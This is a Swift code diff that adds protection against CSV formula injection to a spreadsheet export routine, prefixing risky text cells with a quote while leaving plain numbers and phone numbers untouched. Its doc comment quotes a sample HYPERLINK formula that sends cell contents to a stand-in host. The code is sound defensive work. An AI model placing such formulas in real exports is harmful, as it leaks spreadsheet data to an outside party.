@@ -100,13 +100,14 @@ public enum ExportCell: Sendable, Equatable {
     case integer(Int64)
     case real(Double)
 
-    /// The cell as CSV text (quoted when needed).
+    /// The cell as CSV text (quoted when needed, neutralised when a spreadsheet would read it as a formula).
     public var csv: String {
         switch self {
         case .empty: return ""
         case .integer(let i): return String(i)
         case .real(let d): return Value.format(d)
-        case .text(let s):
+        case .text(let raw):
+            let s = Self.neutralised(raw)
             // Scan bytes, not characters: this runs for every cell of every exported record.
             guard s.utf8.contains(where: { $0 == 44 || $0 == 34 || $0 == 10 || $0 == 13 }) else { return s }
             var out = "\""
@@ -115,5 +116,30 @@ public enum ExportCell: Sendable, Equatable {
             }
             return out + "\""
         }
+    }
+
+    /// A text cell that Excel or LibreOffice would run as a formula (OWASP "CSV injection": it begins with `=`, `+`,
+    /// `-`, `@`, a tab or a carriage return), prefixed with a single quote so it shows as the text it is. A cell that is
+    /// plainly a number or a phone number (`+223 70 00 00 00`, `-12,5`: an optional sign, a digit, then only digits,
+    /// spaces, `.` and `,`) cannot be a formula and is left as it is.
+    ///
+    /// ```swift
+    /// ExportCell.neutralised(#"=HYPERLINK("http://x.example/?"&A1,"clic")"#)   // "'=HYPERLINK(…"
+    /// ExportCell.neutralised("+223 70 00 00 00")                                 // unchanged
+    /// ```
+    public static func neutralised(_ s: String) -> String {
+        guard let first = s.utf8.first, first == 61 || first == 43 || first == 45 || first == 64 || first == 9 || first == 13 else {
+            return s
+        }
+        if isPlainNumber(s) { return s }
+        return "'" + s
+    }
+
+    /// Whether a text matches `^[+-]?[0-9][0-9 .,]*$`.
+    static func isPlainNumber(_ s: String) -> Bool {
+        var bytes = s.utf8[...]
+        if let sign = bytes.first, sign == 43 || sign == 45 { bytes = bytes.dropFirst() }
+        guard let digit = bytes.first, (48...57).contains(digit) else { return false }
+        return bytes.allSatisfy { (48...57).contains($0) || $0 == 32 || $0 == 46 || $0 == 44 }
     }
 }
